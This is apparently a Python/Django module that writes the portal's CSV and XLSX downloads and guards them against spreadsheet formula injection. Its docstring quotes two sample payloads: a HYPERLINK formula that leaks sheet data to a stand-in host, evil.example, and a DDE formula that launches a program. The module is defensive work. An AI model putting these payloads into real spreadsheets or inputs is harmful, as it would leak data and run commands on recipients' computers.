"""The one writer of every CSV and XLSX file the portal hands out (survey answers, the GEL-T dashboard, open
data, and the reports of apps still to come).

Whatever a visitor typed may end up in a cell that an official opens in Excel or LibreOffice. A cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would run as a formula there
(``=HYPERLINK("https://evil.example/?leak="&A1)`` sends the sheet away, ``=cmd|' /C calc'!A0`` starts a
program), so every text cell starting with one of them gets a leading single quote, as OWASP recommends
(https://owasp.org/www-community/attacks/CSV_Injection). In XLSX the text cells are also stored as text,
never as formulas: openpyxl would otherwise write any string starting with ``=`` as ``<f>…</f>``.

Numbers stay numbers (a negative amount is not a formula), so the spreadsheet can still add them up.
"""

import csv
import io
from dataclasses import dataclass, field
from decimal import Decimal

from django.http import HttpResponse

INICIO_DE_FORMULA = ("=", "+", "-", "@", "\t", "\r")
TIPO_CSV = "text/csv; charset=utf-8"
TIPO_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Excel limits a sheet's name to 31 characters and refuses some characters in it.
_LARGO_NOMBRE_HOJA = 31


def _es_numero(valor):
    return isinstance(valor, int | float | Decimal) and not isinstance(valor, bool)


def texto_seguro(valor):
    """The text of a cell that a spreadsheet will not run as a formula ("" for None)."""
    if valor is None:
        return ""
    texto = str(valor)
    return "'" + texto if texto.startswith(INICIO_DE_FORMULA) else texto


def celda_csv(valor, *, coma_decimal=False):
    """One CSV cell: numbers as numbers (with a decimal comma for Excel in Spanish if asked), text neutralised."""
    if _es_numero(valor):
        texto = str(valor)
        return texto.replace(".", ",") if coma_decimal else texto
    return texto_seguro(valor)


class EscritorCSV:
    """``csv.writer`` whose every row goes through ``celda_csv``; for files built row by row."""

    def __init__(self, destino, *, separador=";", coma_decimal=False):
        self._escritor = csv.writer(destino, delimiter=separador)
        self._coma_decimal = coma_decimal

    def writerow(self, fila):
        return self._escritor.writerow([celda_csv(v, coma_decimal=self._coma_decimal) for v in fila])

    def writerows(self, filas):
        for fila in filas:
            self.writerow(fila)


def _adjunto(respuesta, nombre_archivo):
    respuesta["Content-Disposition"] = f'attachment; filename="{nombre_archivo}"'
    return respuesta


def contenido_csv(encabezados, filas, *, separador=";", coma_decimal=False):
    """The bytes of a CSV file: UTF-8 with a BOM, so Excel in Spanish reads the accents right."""
    salida = io.StringIO()
    escritor = EscritorCSV(salida, separador=separador, coma_decimal=coma_decimal)
    escritor.writerow(encabezados)
    escritor.writerows(filas)
    return ("\ufeff" + salida.getvalue()).encode()


def respuesta_csv(nombre_archivo, encabezados, filas, *, separador=";", coma_decimal=False):
    """A CSV download. ``separador`` ";" is what Excel in Spanish expects; open data use "," (RFC 4180)."""
    contenido = contenido_csv(encabezados, filas, separador=separador, coma_decimal=coma_decimal)
    return _adjunto(HttpResponse(contenido, content_type=TIPO_CSV), nombre_archivo)


@dataclass
class Hoja:
    """One sheet of a workbook: a bold header row, the rows, optional column widths (in characters, from
    column A) and the cell where panes freeze ("B2" keeps the header and the first column in view)."""

    titulo: str
    encabezados: list
    filas: list = field(default_factory=list)
    anchos: list = field(default_factory=list)
    congelar: str = ""
    ajustar_encabezados: bool = False


def escribir_fila(hoja, valores):
    """Append a row to an openpyxl worksheet: numbers and dates as they are, every text as text."""
    hoja.append([None] * len(valores) if valores else [])
    fila = hoja.max_row
    for columna, valor in enumerate(valores, start=1):
        celda = hoja.cell(row=fila, column=columna)
        if valor is None:
            continue
        if _es_numero(valor):
            celda.value = float(valor) if isinstance(valor, Decimal) else valor
        elif hasattr(valor, "isoformat"):
            celda.value = valor
        else:
            celda.value = texto_seguro(valor)
            # Assigning a string starting with "=" makes openpyxl store a formula; a text cell is a text cell.
            celda.data_type = "s"


def contenido_xlsx(hojas):
    """The bytes of an XLSX workbook with one sheet per ``Hoja``."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    libro = Workbook()
    libro.remove(libro.active)
    for datos in hojas:
        hoja = libro.create_sheet(texto_seguro(datos.titulo).lstrip("'")[:_LARGO_NOMBRE_HOJA])
        escribir_fila(hoja, list(datos.encabezados))
        for celda in hoja[1]:
            celda.font = Font(bold=True)
            if datos.ajustar_encabezados:
                celda.alignment = Alignment(wrap_text=True, vertical="top")
        for fila in datos.filas:
            escribir_fila(hoja, list(fila))
        for posicion, ancho in enumerate(datos.anchos, start=1):
            hoja.column_dimensions[get_column_letter(posicion)].width = ancho
        if datos.congelar:
            hoja.freeze_panes = datos.congelar
    salida = io.BytesIO()
    libro.save(salida)
    return salida.getvalue()


def respuesta_xlsx(nombre_archivo, hojas):
    """An XLSX download with one sheet per ``Hoja``."""
    return _adjunto(HttpResponse(contenido_xlsx(hojas), content_type=TIPO_XLSX), nombre_archivo)
